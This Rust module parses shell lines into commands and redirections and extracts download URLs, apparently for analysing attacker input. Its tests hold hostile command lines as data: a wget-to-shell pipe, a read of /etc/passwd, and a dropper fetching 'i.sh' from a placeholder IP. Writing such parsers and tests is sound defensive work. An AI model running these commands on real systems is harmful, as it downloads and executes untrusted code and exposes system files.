//! How a line falls into commands and words, as a POSIX shell reads it; nothing is expanded but sums.

use alloc::vec::Vec;

/// Commands of one line that are looked at.
const COMMANDS_MAX: usize = 64;
/// Words of one command that are looked at, and their bytes together.
const WORDS_MAX: usize = 128;
/// Addresses of one line that are told.
const DOWNLOADS_MAX: usize = 8;
const SCHEMES: [&[u8]; 4] = [b"http://", b"https://", b"ftp://", b"tftp://"];

/// What stands between a command and the one before it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) enum Joint {
    /// `;`, `&` or a new line: it runs in any case.
    #[default]
    Then,
    And,
    Or,
    Pipe,
}

/// A command: its words without their quotes.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Command {
    pub(super) joint: Joint,
    pub(super) words: Vec<Vec<u8>>,
    /// The file that it reads (`<`).
    pub(super) input: Option<Vec<u8>>,
    /// The file that what it prints goes to (`>`, `1>`, `&>`), the last one named.
    pub(super) output: Option<Vec<u8>>,
    /// That file keeps what it has (`>>`).
    pub(super) appends: bool,
    /// What it complains of goes to a file (`2>`, `&>`).
    pub(super) quiet: bool,
    /// What it complains of goes where the rest goes (`2>&1`).
    pub(super) merged: bool,
}

impl Command {
    /// What it prints goes to a file.
    pub(super) const fn to_file(&self) -> bool {
        self.output.is_some()
    }

    pub(super) fn slices(&self) -> Vec<&[u8]> {
        self.words.iter().map(Vec::as_slice).collect()
    }
}

/// The commands of a line, in one pass over it.
pub(super) fn commands(line: &[u8]) -> Vec<Command> {
    let line = super::arithmetic::expanded(line);
    let mut reader = Reader { rest: &line, done: Vec::new(), command: Command::default(), word: None };
    while reader.done.len() < COMMANDS_MAX && reader.step() {}
    reader.end_command(Joint::Then);
    reader.done
}

struct Reader<'a> {
    rest: &'a [u8],
    done: Vec<Command>,
    command: Command,
    word: Option<Vec<u8>>,
}

impl Reader<'_> {
    fn step(&mut self) -> bool {
        let (skip, joint) = match self.rest {
            [] => return false,
            [b'&', b'&', ..] => (2, Joint::And),
            [b'|', b'|', ..] => (2, Joint::Or),
            [b'|', ..] => (1, Joint::Pipe),
            [b';' | b'\n', ..] => (1, Joint::Then),
            [b'&', b'>', rest @ ..] => {
                self.rest = rest;
                self.command.quiet = true;
                return self.redirect(b'1');
            }
            [b'&', ..] => (1, Joint::Then),
            _ => return self.in_command(),
        };
        self.rest = &self.rest[skip..];
        self.end_command(joint);
        true
    }

    fn in_command(&mut self) -> bool {
        let [first, behind @ ..] = self.rest else { return false };
        let rest = self.rest;
        self.rest = behind;
        match first {
            b'\'' => self.quoted(),
            b'"' => self.doubly_quoted(),
            b'\\' => {
                if let [escaped, further @ ..] = behind {
                    if *escaped != b'\n' {
                        self.push(*escaped);
                    }
                    self.rest = further;
                }
            }
            b'#' if self.word.is_none() => {
                let end = memchr::memchr(b'\n', rest).unwrap_or(rest.len());
                self.rest = &rest[end..];
            }
            b'0'..=b'9' if self.word.is_none() && matches!(behind.first(), Some(b'>' | b'<')) => {
                self.rest = &behind[1..];
                return if behind[0] == b'<' { self.source() } else { self.redirect(*first) };
            }
            b'>' => return self.redirect(b'1'),
            b'<' => return self.source(),
            byte if byte.is_ascii_whitespace() => self.end_word(),
            byte => self.push(*byte),
        }
        true
    }

    /// Behind `>`: a file's name, or `&1`.
    fn redirect(&mut self, number: u8) -> bool {
        self.end_word();
        let appends = self.rest.first() == Some(&b'>');
        self.rest = self.rest.strip_prefix(b">").or_else(|| self.rest.strip_prefix(b"|")).unwrap_or(self.rest);
        if let [b'&', to @ (b'0'..=b'9' | b'-'), behind @ ..] = self.rest {
            self.rest = behind;
            match (number, to) {
                (b'2', b'1') => self.command.merged = true,
                (b'2', _) => self.command.quiet = true,
                _ => {}
            }
            return true;
        }
        self.rest = self.rest.strip_prefix(b"&").unwrap_or(self.rest);
        let target = self.target();
        match number {
            b'1' => (self.command.output, self.command.appends) = (Some(target), appends),
            b'2' => self.command.quiet = true,
            _ => {}
        }
        true
    }

    /// Behind `<`; a here-document's word (`<<`) is no file.
    fn source(&mut self) -> bool {
        self.end_word();
        let here = self.rest.strip_prefix(b"<");
        self.rest = here.unwrap_or(self.rest);
        let target = self.target();
        if here.is_none() {
            self.command.input = Some(target);
        }
        true
    }

    /// The word that follows, without its quotes.
    fn target(&mut self) -> Vec<u8> {
        self.rest = self.rest.trim_ascii_start();
        while let [first, behind @ ..] = self.rest {
            match first {
                b';' | b'&' | b'|' | b'<' | b'>' => break,
                byte if byte.is_ascii_whitespace() => break,
                b'\'' => {
                    self.rest = behind;
                    self.quoted();
                }
                b'"' => {
                    self.rest = behind;
                    self.doubly_quoted();
                }
                b'\\' => {
                    let (escaped, further) = behind.split_at(behind.len().min(1));
                    self.word.get_or_insert_default().extend_from_slice(escaped);
                    self.rest = further;
                }
                byte => {
                    self.push(*byte);
                    self.rest = behind;
                }
            }
        }
        self.word.take().unwrap_or_default()
    }

    fn quoted(&mut self) {
        let end = memchr::memchr(b'\'', self.rest).unwrap_or(self.rest.len());
        self.word.get_or_insert_default().extend_from_slice(&self.rest[..end]);
        self.rest = self.rest.get(end + 1..).unwrap_or_default();
    }

    /// Between double quotes a backslash stands before `"`, `\`, `$` and a backtick.
    fn doubly_quoted(&mut self) {
        let word = self.word.get_or_insert_default();
        loop {
            match self.rest {
                [] => return,
                [b'"', behind @ ..] => {
                    self.rest = behind;
                    return;
                }
                [b'\\', escaped @ (b'"' | b'\\' | b'$' | b'`'), behind @ ..] => {
                    word.push(*escaped);
                    self.rest = behind;
                }
                [byte, behind @ ..] => {
                    word.push(*byte);
                    self.rest = behind;
                }
            }
        }
    }

    fn push(&mut self, byte: u8) {
        self.word.get_or_insert_default().push(byte);
    }

    fn end_word(&mut self) {
        if let Some(word) = self.word.take()
            && self.command.words.len() < WORDS_MAX
        {
            self.command.words.push(word);
        }
    }

    fn end_command(&mut self, joint: Joint) {
        self.end_word();
        let next = Command { joint, ..Command::default() };
        let command = core::mem::replace(&mut self.command, next);
        if !command.words.is_empty() || command.output.is_some() {
            self.done.push(command);
        } else {
            // `;;` and the like: what was said first counts.
            self.command.joint = if command.joint == Joint::Then { joint } else { command.joint };
        }
    }
}

/// The addresses that a line names, wherever they stand in it.
pub(crate) fn downloads(line: &[u8]) -> Vec<&[u8]> {
    let ends =
        |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'\'' | b'"' | b'`' | b';' | b'|' | b'&' | b')' | b'<' | b'>');
    let mut found: Vec<&[u8]> = Vec::new();
    let mut at = 0;
    while let Some(colon) = memchr::memmem::find(&line[at..], b"://") {
        let behind = at + colon + 3;
        let start = SCHEMES.iter().filter_map(|scheme| {
            let start = behind.checked_sub(scheme.len())?;
            line[start..behind].eq_ignore_ascii_case(scheme).then_some(start)
        });
        // The longest scheme that ends here.
        if let Some(start) = start.min() {
            let end = line[behind..].iter().position(ends).map_or(line.len(), |end| behind + end);
            if end > behind {
                found.push(&line[start..end]);
            }
        }
        if found.len() >= DOWNLOADS_MAX {
            break;
        }
        at = behind;
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drive::said;
    use alloc::{format, string::String};

    fn shown(line: &str) -> String {
        let parts = commands(line.as_bytes()).into_iter().map(|command| {
            let words: Vec<String> = command.words.iter().map(|word| said(word)).collect();
            format!(
                "{:?}{:?}{}{}{}{}",
                command.joint,
                words,
                command.input.map(|name| format!("<{}", said(&name))).unwrap_or_default(),
                command.output.map(|name| format!(">{}{}", if command.appends { ">" } else { "" }, said(&name))).unwrap_or_default(),
                if command.quiet { "!" } else { "" },
                if command.merged { "&" } else { "" }
            )
        });
        parts.collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn lines_fall_into_commands_as_a_shell_reads_them() {
        let table = [
            ("uname -a", r#"Then["uname", "-a"]"#),
            ("a; b && c || d | e & f", r#"Then["a"] Then["b"] And["c"] Or["d"] Pipe["e"] Then["f"]"#),
            (r#"echo 'a; b' "c d"x\ y"#, r#"Then["echo", "a; b", "c dx y"]"#),
            ("wget x -O- 2>/dev/null | sh", r#"Then["wget", "x", "-O-"]! Pipe["sh"]"#),
            ("cat a > /tmp/b; id", r#"Then["cat", "a"]>/tmp/b Then["id"]"#),
            ("x >/dev/null 2>&1 && y", r#"Then["x"]>/dev/null& And["y"]"#),
            ("x &> /dev/null; y", r#"Then["x"]>/dev/null! Then["y"]"#),
            (r#"echo "a\"b; id""#, r#"Then["echo", "a\"b; id"]"#),
            ("cat < /etc/passwd | wc -l", r#"Then["cat"]</etc/passwd Pipe["wc", "-l"]"#),
            ("echo x>>'a b'1>c", r#"Then["echo", "x"]>c"#),
            ("echo x>>'a b'", r#"Then["echo", "x"]>>a b"#),
            ("while read i; do echo $i; done < .s", r#"Then["while", "read", "i"] Then["do", "echo", "$i"] Then["done"]<.s"#),
            ("ls /x 2>&1 | head -1", r#"Then["ls", "/x"]& Pipe["head", "-1"]"#),
            ("# nothing\nid", r#"Then["id"]"#),
            (";;;", ""),
            ("'", r#"Then[""]"#),
        ];
        for (line, expected) in table {
            assert_eq!(shown(line), expected, "{line}");
        }
        assert_eq!(commands("a;".repeat(1_000).as_bytes()).len(), COMMANDS_MAX);
    }

    #[test]
    fn addresses_are_found_wherever_they_stand() {
        let line = b"cd /tmp; wget http://198.51.100.9/i.sh||curl -O 'HTTPS://b.example/x'; tftp://c ://d http://";
        let found: Vec<String> = downloads(line).into_iter().map(said).collect();
        assert_eq!(found, ["http://198.51.100.9/i.sh", "HTTPS://b.example/x", "tftp://c"]);
        assert_eq!(downloads(&b"http://a ".repeat(50)).len(), DOWNLOADS_MAX);
    }
}
